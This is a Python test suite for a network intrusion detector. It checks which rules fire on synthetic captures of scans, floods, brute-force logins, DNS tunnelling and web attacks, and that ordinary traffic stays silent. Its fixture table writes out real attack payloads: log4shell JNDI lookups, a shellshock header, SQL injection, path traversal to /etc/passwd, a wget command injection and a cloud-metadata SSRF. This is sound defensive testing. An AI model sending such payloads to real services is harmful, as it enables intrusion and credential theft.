# SPDX-License-Identifier: GPL-3.0-or-later
"""What `sockwarden replay` tells without a list: each rule with captures it fires on and some it is silent on."""
import random
import struct

import pytest

import capture as c
from capture import ACK, CWR, ECE, FIN, PSH, RST, SYN, URG, Capture
from test_replay import found, http_flow, replay

US, THEM, US6, THEM6 = "198.18.0.1", "198.18.5.5", "2001:db8::1", "2001:db8:5::5"


def probes(flags=SYN, n=10, gap=0.01, src=THEM, dst=US, refuse=False, ports=None, sport=50000, answer=()):
    """One source to n ports of one host; ports in `answer` are open."""
    cap = Capture()
    for port in ports or range(1, n + 1):
        cap.add(c.tcp(src, sport, dst, port, flags), gap)
        if port in answer:
            cap.add(c.tcp(dst, port, src, sport, SYN | ACK), 0.001)
            cap.add(c.tcp(src, sport, dst, port, RST), 0.001)
        elif refuse:
            cap.add(c.tcp(dst, port, src, sport, RST | ACK), 0.001)
    return cap


def hosts(n=25, gap=0.01, port=23, answer=False):
    cap = Capture()
    for i in range(n):
        dst = f"198.18.{30 + i // 200}.{1 + i % 200}"
        cap.add(c.tcp(THEM, 40000 + i, dst, port), gap)
        if answer:
            cap.add(c.tcp(dst, port, THEM, 40000 + i, SYN | ACK), 0.05)
    return cap


def distributed(sources=30, ports=30):
    cap = Capture()
    for i in range(ports):
        cap.add(c.tcp(f"198.19.{i % sources}.7", 40000 + i, US, 100 + i), 0.5)
    return cap


def udp_probes(n=10, gap=0.01, answer=False, ports=None):
    cap = Capture()
    for port in ports or range(1, n + 1):
        cap.add(c.udp(THEM, 50000, US, port), gap)
        if answer:
            cap.add(c.udp(US, port, THEM, 50000), 0.001)
        else:
            cap.add(c.icmp(US, THEM, 3, 3), 0.001)
    return cap


def flood(n=1500, done=0):
    cap, rnd = Capture(), random.Random(1)
    for i in range(n):
        src, sport = f"198.19.{rnd.randrange(256)}.{rnd.randrange(256)}", rnd.randrange(1024, 65536)
        cap.add(c.tcp(src, sport, US, 80), 0.002)
        cap.add(c.tcp(US, 80, src, sport, SYN | ACK), 0.0001)
        if i < done:
            cap.add(c.tcp(src, sport, US, 80, ACK), 0.0001)
    return cap


def logins(n=25, gap=1.0, port=22, data=True):
    cap = Capture()
    for i in range(n):
        cap.flow(THEM, 40000 + i, US, port, [b"SSH-2.0-x\r\n", b"k" * 900] if data else [], gap=0.001)
        cap.now += gap
    return cap


def asks(names, gap=0.05, rcode=0, answer=False):
    cap = Capture()
    for i, name in enumerate(names):
        cap.add(c.udp(THEM, 20000 + i, US, 53, c.question(name)), gap)
        if answer or rcode:
            cap.add(c.udp(US, 53, THEM, 20000 + i, c.answer(name, [], rcode=rcode)), 0.001)
    return cap


def pieces(size=8, n=10, six=False, flags=SYN, payload=0):
    """One source to n ports, each packet cut into fragments of that size, as nmap -f cuts."""
    cap = Capture()
    for port in range(1, n + 1):
        data = c.tcp_bytes(50000, port, flags) + b"x" * payload
        for at in range(0, len(data), size):
            more, part = at + size < len(data), data[at:at + size]
            if six:
                head = bytes([6, 0]) + struct.pack("!HI", at | more, port)
                cap.add(c.ip(THEM6, US6, 44, head + part), 0.01)
                continue
            whole = bytearray(c.ip(THEM, US, 6, part))
            whole[4:8] = struct.pack("!HH", port, at >> 3 | more << 13)
            cap.add(bytes(whole), 0.01)
    return cap


def extended(n=12):
    """SYNs behind hop-by-hop and destination options."""
    cap = Capture()
    for port in range(1, n + 1):
        options = bytes([60, 0, 1, 4, 0, 0, 0, 0]) + bytes([6, 0, 1, 4, 0, 0, 0, 0])
        cap.add(c.ip(THEM6, US6, 0, options + c.tcp_bytes(50000, port, SYN)), 0.01)
    return cap


def paced(gap, n=14, jitter=0):
    """Connections to one place that are a gap apart."""
    cap, rnd = Capture(), random.Random(5)
    for i in range(n):
        cap.flow(US, 40000 + i, THEM, 443, [b"x"])
        cap.now += gap + (rnd.uniform(-jitter, jitter) if jitter else 0)
    return cap


def sinkholed(alias):
    """An answer whose alias names its owner."""
    cap, name = Capture(), "taken.example"
    cap.add(c.udp(THEM, 20000, "198.18.0.53", 53, c.question(name)), 0.01)
    return cap.add(c.udp("198.18.0.53", 53, THEM, 20000, c.answer(name, [(5, c.dns_name(alias))])), 0.01)


def crowd_behind_one_address(n=5000):
    """So many users of one service, who share one address."""
    cap = Capture()
    for i in range(n):
        cap.flow(THEM, 1024 + i, US, 443, [b"x"], gap=0.0001)
        cap.now += 0.02
    return cap


def letters(rnd, n, of="bcdfghjklmnpqrstvwxz"):
    return "".join(rnd.choice(of) for _ in range(n))


RND = random.Random(7)
RANDOM_NAMES = [f"{letters(RND, 14)}.test" for _ in range(12)]
WORDS = [f"{a}{b}.example" for a in ("garden", "river", "solid", "paper", "winter", "candle", "market", "orange", "silver", "table",
                                     "window") for b in ("house", "store", "media", "online", "group", "line", "works", "talk", "ware", "land")]

# name: (rule, capture)
FIRES = {
    "vertical": ("scan-vertical", probes),
    "vertical, refused": ("scan-vertical", lambda: probes(refuse=True)),
    "vertical, ECN bits": ("scan-vertical", lambda: probes(SYN | ECE | CWR)),
    "vertical, some open": ("scan-vertical", lambda: probes(n=12, refuse=True, answer=(3, 5))),
    "vertical, slow": ("scan-vertical", lambda: probes(n=30, gap=5)),
    "vertical, high ports": ("scan-vertical", lambda: probes(ports=range(30000, 30012))),
    "vertical, IPv6": ("scan-vertical", lambda: probes(src=THEM6, dst=US6)),
    "vertical, over a minute's edge": ("scan-vertical", lambda: probes(gap=12)),
    "horizontal": ("scan-horizontal", hosts),
    "horizontal, slow": ("scan-horizontal", lambda: hosts(30, 5)),
    "distributed": ("scan-distributed", distributed),
    "FIN": ("scan-fin", lambda: probes(FIN)),
    "NULL": ("scan-null", lambda: probes(0)),
    "XMAS": ("scan-xmas", lambda: probes(FIN | PSH | URG)),
    "Maimon": ("scan-maimon", lambda: probes(FIN | ACK)),
    "ACK": ("scan-ack", lambda: probes(ACK)),
    "SYN and FIN": ("scan-flags", lambda: probes(SYN | FIN)),
    "URG alone": ("scan-flags", lambda: probes(URG)),
    "all flags": ("scan-flags", lambda: probes(63)),
    "cut up": ("scan-fragment", pieces),
    "cut up, IPv6": ("scan-fragment", lambda: pieces(six=True)),
    "behind extension headers": ("scan-vertical", lambda: extended()),
    "FIN, IPv6": ("scan-fin", lambda: probes(FIN, src=THEM6, dst=US6)),
    "UDP": ("scan-udp", udp_probes),
    "UDP, slow": ("scan-udp", lambda: udp_probes(30, 5)),
    "flood": ("syn-flood", flood),
    "SSH": ("brute-force", logins),
    "SSH, quick and without data": ("brute-force", lambda: logins(32, 0.2, data=False)),
    "tunnel": ("dns-tunnel", lambda: asks([f"{letters(RND, 60)}.{letters(RND, 40)}.t.example" for _ in range(60)])),
    "exhaustion": ("dns-exhaustion", lambda: asks([f"{letters(RND, 8)}.example.org" for _ in range(300)], 0.1, 3)),
    "domains that do not exist": ("dns-nxdomain", lambda: asks(WORDS, 1, 3)),
    "made by a program": ("dns-dga", lambda: asks(RANDOM_NAMES, 5, 3)),
    "an answer from a sinkhole": ("dns-sinkhole", lambda: sinkholed("sinkhole.shadowserver.example")),
    "long label": ("dns-long-label", lambda: asks(["x" * 62 + ".example.org"])),
    "log4shell in a header": ("web-attack", lambda: http_flow(c.http(agent="${jndi:ldap://x/a}"))),
    "log4shell, hidden": ("web-attack", lambda: http_flow(c.http(more=["X-Api: ${${lower:j}ndi:ldap://x/a}"]))),
    "shellshock": ("web-attack", lambda: http_flow(c.http(more=["Referer: () { :; }; /bin/id"]))),
    "injection, plus signs": ("web-attack", lambda: http_flow(c.http(path="/a.php?id=1+UNION+SELECT+1,2"))),
    "injection, percent": ("web-attack", lambda: http_flow(c.http(path="/a.php?id=1%20uNion%2f**%2fselect%201"))),
    "injection, twice encoded": ("web-attack", lambda: http_flow(c.http(path="/a?x=%253Cscript%253E"))),
    "injection, body": ("web-attack", lambda: http_flow(c.http("POST", "/a", body=b"id=1'+or+'1'='1"))),
    "traversal": ("web-attack", lambda: http_flow(c.http(path="/../../../../etc/passwd"))),
    "wrapper": ("web-attack", lambda: http_flow(c.http(path="/?page=php://input"))),
    "command": ("web-attack", lambda: http_flow(c.http(path="/cgi?x=;wget+http://198.18.1.1/x"))),
    "union behind a comment": ("web-attack", lambda: http_flow(c.http(path="/a?id=(select%20password%20from%20users)"))),
    "event handler": ("web-attack", lambda: http_flow(c.http(path="/a?q=%22%20onmouseover%3Dprompt(1)"))),
    "traversal, overlong": ("web-attack", lambda: http_flow(c.http(path="/a?f=..%c0%af..%c0%afx"))),
    "command in backticks": ("web-attack", lambda: http_flow(c.http(path="/ping?ip=%60id%60"))),
    "log4shell in a header, percent": ("web-attack", lambda: http_flow(c.http(more=["X-Api: $%7Bjndi:dns://x%7D"]))),
    "Struts": ("web-attack", lambda: http_flow(c.http(more=["Content-Type: %{(#a=#b)}"]))),
    "the cloud's data": ("web-attack", lambda: http_flow(c.http(path="/?u=http://169.254.169.254/latest/meta-data/"))),
    "LDAP": ("web-attack", lambda: http_flow(c.http(path="/s?u=*)(uid=*))(|(uid=*"))),
    "settings": ("web-attack", lambda: http_flow(c.http(path="/.env"))),
    "settings of WordPress": ("web-attack", lambda: http_flow(c.http(path="/wp-config.php.bak"))),
    "phpunit": ("web-attack", lambda: http_flow(c.http(path="/vendor/phpunit/src/Util/PHP/eval-stdin.php"))),
    "a header in a path": ("web-attack", lambda: http_flow(c.http(path="/a?x=%0d%0aSet-Cookie:%20a=b"))),
    "acunetix": ("web-attack", lambda: http_flow(c.http(path="/acunetix-wvs-test-for-some-inexistent-file"))),
    "program for a processor": ("web-download", lambda: http_flow(c.http(path="/bins/mips", host="198.18.5.5"))),
    "zgrab": ("web-scanner", lambda: http_flow(c.http(agent="Mozilla/5.0 zgrab/0.x"))),
    "nuclei": ("web-scanner", lambda: http_flow(c.http(agent="Nuclei - Open-source project"))),
    "program from an address": ("web-download", lambda: http_flow(c.http(path="/bins/x.mips", host="198.18.5.5"))),
    "proxy": ("web-proxy", lambda: http_flow(c.http("CONNECT", "mail.example:25"))),
    "proxy, whole URL": ("web-proxy", lambda: http_flow(c.http(path="http://elsewhere.example/"))),
    "no host": ("web-no-host", lambda: http_flow(c.http(host=None))),
}


@pytest.mark.parametrize("name", FIRES)
def test_the_rule_fires(name, tmp_path):
    rule, make = FIRES[name]
    rows = found(make().save(tmp_path / "x.pcap"))
    assert rule in [r["rule"] for r in rows], rows
    if rule.startswith("scan-") and rule not in ("scan-horizontal", "scan-distributed"):
        assert {r["rule"] for r in rows} == {rule} and len(rows) == 1, rows


def test_a_scan_is_told_by_its_tenth_probe(tmp_path):
    for make in (probes, udp_probes, lambda: probes(0), lambda: probes(FIN | ACK), lambda: probes(n=40)):
        cap = make()
        rows = found(cap.save(tmp_path / "x.pcap"))
        sent = [p for _, p in cap.packets[:rows[0]["packet"]] if p[26:30] == c.packed(THEM)]
        assert len(sent) <= 10 and rows[0]["source"] == THEM and rows[0]["trail"] == THEM, rows


def mixed(*caps):
    """Several captures in one, by time."""
    out = Capture()
    out.packets = sorted((p for cap in caps for p in cap.packets), key=lambda p: p[0])
    return out


def test_a_scan_is_found_amid_a_flood_of_forged_sources(tmp_path):
    cap, rnd = probes(n=30, gap=2), random.Random(3)
    noise = Capture()
    for _ in range(60000):
        src = f"198.{18 + rnd.randrange(2)}.{rnd.randrange(256)}.{rnd.randrange(256)}"
        noise.add(c.tcp(src, rnd.randrange(1024, 65536), "198.18.77.7", rnd.choice((80, 443, 8080))), 0.001)
    rows = found(mixed(cap, noise).save(tmp_path / "x.pcap"))
    assert (THEM, "scan-vertical") in [(r["source"], r["rule"]) for r in rows]


def backscatter():
    cap, rnd = Capture(), random.Random(2)
    for _ in range(500):
        cap.add(c.tcp(THEM, 80, f"198.18.{rnd.randrange(256)}.{rnd.randrange(1, 255)}", rnd.randrange(1024, 65536),
                      rnd.choice((SYN | ACK, RST | ACK, RST))), 0.01)
    return cap


def same_host(n, ports, answers=True):
    """A client's connections to many ports of one host that are all open."""
    cap = Capture()
    for i, port in enumerate(range(ports, ports + n)):
        cap.flow(THEM, 40000 + i, US, port, [b"x"], answers)
    return cap


def parallel(n=16):
    """So many SYNs before the first answer, as a client opens passive FTP."""
    cap = Capture()
    for i in range(n):
        cap.add(c.tcp(THEM, 40000 + i, US, 30000 + i), 0.0001)
    for i in range(n):
        cap.add(c.tcp(US, 30000 + i, THEM, 40000 + i, SYN | ACK), 0.0001)
    return cap.add(c.tcp(THEM, 50000, US, 21), 10)


def crowd(n=300):
    """A gateway's new connections, a tenth of a second before the answers."""
    cap, late = Capture(), []
    for i in range(n):
        dst = f"198.19.{i // 200}.{1 + i % 200}"
        cap.add(c.tcp(THEM, 10000 + i, dst, 443), 0.002)
        late.append((cap.now + 0.1, c.ether(c.tcp(dst, 443, THEM, 10000 + i, SYN | ACK))))
    cap.packets = sorted(cap.packets + late, key=lambda p: p[0])
    return cap


def closings(sport=443, n=100):
    """A server ends connections the capture did not see begin."""
    cap = Capture()
    for i in range(n):
        cap.add(c.tcp(US, sport, THEM, 33000 + i * 7, FIN | ACK), 0.01)
        cap.add(c.tcp(THEM, 33000 + i * 7, US, sport, ACK), 0.01)
    return cap


def checks(n=300, port=22):
    """A load balancer looks every two seconds whether the port is there."""
    cap = Capture()
    for i in range(n):
        cap.flow(THEM, 1024 + i, US, port, [])
        cap.now += 2
    return cap


def broadcasts():
    cap = Capture()
    for port in range(1, 60):
        cap.add(c.udp(THEM, 5000, "255.255.255.255", port), 0.1).add(c.udp(THEM, 5000, "239.1.2.3", port), 0.1)
        cap.add(c.udp(THEM6, 5000, "ff02::1", port), 0.1)
    return cap


def traceroute():
    cap = Capture()
    for port in range(33434, 33524):
        cap.add(c.udp(THEM, 45000, US, port), 0.05)
    return cap


def resolver(n=200):
    """Answers to a client's many ports, the questions not seen."""
    cap = Capture()
    for i in range(n):
        cap.add(c.udp(US, 53, THEM, 20000 + i, c.answer(f"h{i}.example.org", [(1, c.packed("198.18.1.1"))])), 0.01)
    return cap


def too_big():
    cap = Capture()
    for i in range(50):
        cap.add(c.icmp(THEM, US, 3, 4), 0.1).add(c.icmp(THEM6, US6, 2, 0), 0.1)
        cap.add(c.tcp(US, 443, THEM, 40000, ACK, b"z" * 1000, seq=1000 * i), 0.1)
    return cap


SILENT = {
    "nine probes": lambda: probes(n=9),
    "probes over hours": lambda: probes(n=30, gap=400),
    "backscatter": backscatter,
    "open ports": lambda: same_host(30, 9100),
    "open ports, one way seen": lambda: same_host(30, 9100, answers=False),
    "parallel": parallel,
    "a gateway": crowd,
    "many hosts that answer": lambda: hosts(100, answer=True),
    "closings": closings,
    "closings of a high port": lambda: closings(8443),
    "health checks": checks,
    "health checks of a database": lambda: checks(port=3306),
    "broadcasts": broadcasts,
    "traceroute": traceroute,
    "a resolver's answers": resolver,
    "path MTU": too_big,
    "UDP that is answered": lambda: udp_probes(60, answer=True, ports=range(40000, 40060)),
    "a busy server": lambda: flood(1500, done=1500),
    "few logins": lambda: logins(10, 10),
    "a file in fragments": lambda: pieces(size=1480, payload=4000, n=60, flags=ACK | PSH),
    "four that are cut up": lambda: pieces(n=4),
    "an answer of everyday": lambda: sinkholed("edge.cdn.example"),
    "one pace, while nobody asked for it": lambda: paced(60),
    "5,000 users behind one address": crowd_behind_one_address,
    "nineteen ports by many": lambda: distributed(ports=19),
    "nineteen hosts": lambda: hosts(19),
    "half-open connections, few": lambda: flood(900),
    "odd packets, four": lambda: probes(0, n=4),
    "reverse zones": lambda: asks([f"{i}.0.18.198.in-addr.arpa" for i in range(250)], 0.01, 3),
    "a block list": lambda: asks([f"{i}.{i}.18.198.list.example" for i in range(250)], 0.01, 3),
    "ip6.arpa": lambda: asks([".".join("0123456789abcdef"[(i >> k) & 15] for k in range(32)) + ".ip6.arpa" for i in range(300)], 0.01),
    "many good names": lambda: asks([f"host{i}.site{i}.example" for i in range(400)], 0.05, answer=True),
    "a few mistakes": lambda: asks(WORDS[:40], 1, 3),
    "a browser's own probes": lambda: asks([letters(random.Random(i), 12) for i in range(60)], 0.1, 3),
    "content hosts": lambda: asks([f"d{letters(random.Random(i), 13)}.cdn.example" for i in range(150)], 0.2, answer=True),
    "well known": lambda: http_flow(c.http(path="/.well-known/acme-challenge/abc")),
    "cookies of JSON": lambda: http_flow(c.http(more=["Cookie: a=%7B%22b%22%3A1%7D; c={x}"])),
    "a repository": lambda: http_flow(c.http(path="/team/tool.git/info/refs?service=git-upload-pack")),
    "a proxy's request without Host": lambda: http_flow(c.http("CONNECT", "www.example.org:443", host=None), dport=3128),
    "searching": lambda: http_flow(c.http(path="/search?q=select+a+union+card+and+system+tools&x=%C3%A4")),
    "a script's call": lambda: http_flow(c.http(path="/api.js?onload=ready&render=explicit")),
    "a post of prose": lambda: http_flow(c.http("POST", "/post", body=b"text=<script> is a tag; eval( is too, document.cookie")),
    "a program by name": lambda: http_flow(c.http(path="/setup.exe", host="downloads.example.org")),
    "a program inside": lambda: http_flow(c.http(path="/setup.exe", host="192.168.1.9"), dst="192.168.1.9"),
    "a proxy's own port": lambda: http_flow(c.http("CONNECT", "www.example.org:443"), dport=3128),
    "an agent with parentheses": lambda: http_flow(c.http(agent="Mozilla/5.0 (X11; Linux x86_64) {x} $1 ()")),
}


@pytest.mark.parametrize("name", SILENT)
def test_the_everyday_is_silent(name, tmp_path):
    assert found(SILENT[name]().save(tmp_path / "x.pcap")) == []


def tunnel():
    return asks([f"{letters(RND, 50)}.{letters(RND, 40)}.t.example" for _ in range(60)])


# What a configuration makes of a capture: the same one, with a file named and without.
SETTINGS = {
    "a beacon, where that is wanted": ("beacon: {enabled: true}", lambda: paced(60), [], ["beacon"]),
    "a person's pace": ("beacon: {enabled: true}", lambda: paced(60, jitter=45), [], []),
    "a threshold": ("scan-vertical: {threshold: 5}", lambda: probes(n=6), [], ["scan-vertical"]),
    "a switch": ("scan-vertical: {enabled: false}", probes, ["scan-vertical"], []),
    "an allow list": (f"scan-vertical: {{allow: [{THEM}]}}", probes, ["scan-vertical"], []),
    "a zone": ("dns_zones: other.example T.Example.", tunnel, ["dns-tunnel"], []),
    "another zone": ("dns_zones: other.example nt.example", tunnel, ["dns-tunnel"], ["dns-tunnel"]),
}


@pytest.mark.parametrize("name", SETTINGS)
def test_a_configuration_that_is_named_sets_the_rules_and_no_other_does(name, tmp_path):
    line, make, without, with_it = SETTINGS[name]
    conf, path = tmp_path / "x.yaml", make().save(tmp_path / "x.pcap")
    conf.write_text(f"detect:\n  {line}\n")
    assert [r["rule"] for r in found(path)] == without
    assert [r["rule"] for r in found(path, "--config", conf)] == with_it


def test_a_configuration_that_is_wrong_or_not_there_is_said(tmp_path):
    path = probes().save(tmp_path / "x.pcap")
    (tmp_path / "x.yaml").write_text("detect:\n  scan-sideways: {}\n")
    for conf, word in (("x.yaml", "scan-sideways"), ("none.yaml", "No such file")):
        p = replay(path, "--config", tmp_path / conf)
        assert p.returncode not in (0, 1)
        assert word in p.stderr and not p.stdout


def test_time_that_runs_back_does_no_harm(tmp_path):
    cap = probes(n=40)
    random.Random(1).shuffle(cap.packets)
    cap.packets.append((1.0, c.ether(c.tcp(US, 1, THEM, 2))))
    rows = found(cap.save(tmp_path / "x.pcap"))
    assert [r["rule"] for r in rows] == ["scan-vertical"]


# ---- a day's traffic

class Everyday:
    """Flows of many kinds, quickly made: headers are packed here, once a kind."""

    def __init__(self, path):
        self.f, self.rnd, self.now, self.flows = open(path, "wb"), random.Random(42), 1_700_000_000_000_000, 0
        self.f.write(struct.pack("<IHHiIII", 0xa1b2c3d4, 2, 4, 0, 0, 262144, c.RAW))
        self.hello = c.hello("www.example.org")
        self.request = c.http(path="/assets/app.js?v=12&lang=de", host="www.example.org",
                              agent="Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0")

    def put(self, packet, after=300):
        self.now += after
        self.f.write(struct.pack("<IIII", self.now // 1000000, self.now % 1000000, len(packet), len(packet)) + packet)

    def tcp(self, src, sport, dst, dport, data, reply=b"r" * 60):
        def one(a, ap, b, bp, flags, seq, payload=b""):
            self.put(b"\x45\0" + struct.pack("!HIHH4s4sHHIIBBHI", 40 + len(payload), 1, 0x4006, 0, a, b, ap, bp, seq, 1, 0x50, flags,
                                            65535, 0) + payload)
        self.flows += 1
        one(src, sport, dst, dport, SYN, 1)
        one(dst, dport, src, sport, SYN | ACK, 1)
        one(src, sport, dst, dport, ACK, 2)
        if data:
            one(src, sport, dst, dport, ACK | PSH, 2, data)
            one(dst, dport, src, sport, ACK | PSH, 2, reply)
        one(src, sport, dst, dport, FIN | ACK, 2 + len(data))
        one(dst, dport, src, sport, FIN | ACK, 2 + len(reply))

    def udp(self, src, sport, dst, dport, data, back=b"y" * 40):
        def one(a, ap, b, bp, payload):
            self.put(b"\x45\0" + struct.pack("!HIHH4s4sHHHH", 28 + len(payload), 1, 0x4011, 0, a, b, ap, bp, 8 + len(payload), 0) + payload)
        self.flows += 1
        one(src, sport, dst, dport, data)
        if back:
            one(dst, dport, src, sport, back)

    def any_host(self, net):
        return bytes([198, net, self.rnd.randrange(256), self.rnd.randrange(1, 255)])

    def run(self, flows):
        rnd, office, server = self.rnd, bytes([198, 18, 0, 1]), bytes([198, 18, 0, 80])
        resolver = bytes([198, 18, 0, 53])
        while self.flows < flows:
            kind, client = rnd.random(), bytes([198, 18, 1, rnd.randrange(1, 200)])
            port = rnd.randrange(1024, 65536)
            if kind < 0.30:  # a busy resolver, downwards and upwards
                name = f"{rnd.choice(('www', 'cdn', 'img', 'api', 'mail'))}.{rnd.choice(WORDS)}"
                asker, asked = (client, resolver) if kind < 0.2 else (resolver, self.any_host(19))
                self.udp(asker, port, asked, 53, c.question(name), c.answer(name, [(1, bytes([198, 19, 3, 4]))],
                                                                          rcode=3 if rnd.random() < 0.02 else 0))
            elif kind < 0.50:  # browsing, and many people behind one address
                self.tcp(office if kind < 0.4 else client, port, self.any_host(19), 443, self.hello)
            elif kind < 0.65:  # a web server's visitors
                self.tcp(self.any_host(19), port, server, 80, self.request)
            elif kind < 0.70:  # mail, some of it to where nobody is
                self.tcp(bytes([198, 18, 0, 25]), port, self.any_host(19), 25, b"EHLO mail.example.org\r\n")
            elif kind < 0.75:  # health checks
                self.tcp(bytes([198, 18, 0, 9]), port, server, rnd.choice((80, 443, 8080)), b"")
            elif kind < 0.80:  # file sharing: any host, any port, mostly silent
                self.udp(client, 51413, self.any_host(19), port, b"d1:ad2:id20:", b"" if rnd.random() < 0.6 else b"z")
            elif kind < 0.85:  # calls: two ports of one host
                self.udp(client, 16384 + port % 100 * 2, bytes([198, 18, 0, 60]), 10000 + port % 3000 * 2, b"\x80" * 160)
            elif kind < 0.95:  # containers pull images and programs speak to databases
                self.tcp(client, port, bytes([198, 18, 0, rnd.choice((70, 71, 72))]), rnd.choice((5000, 5432, 6379, 9092)), b"\1\2\3\4")
            else:  # monitoring: a few ports of each host
                self.tcp(bytes([198, 18, 0, 8]), port, client, rnd.choice((9100, 9113, 9187, 9256)), self.request)
        self.f.close()


def test_a_day_of_200000_flows_raises_nothing_of_medium_severity(tmp_path):
    day = Everyday(tmp_path / "day.pcap")
    day.run(200000)
    rows = found(tmp_path / "day.pcap")
    assert [r for r in rows if r["severity"] not in ("info", "low")] == []
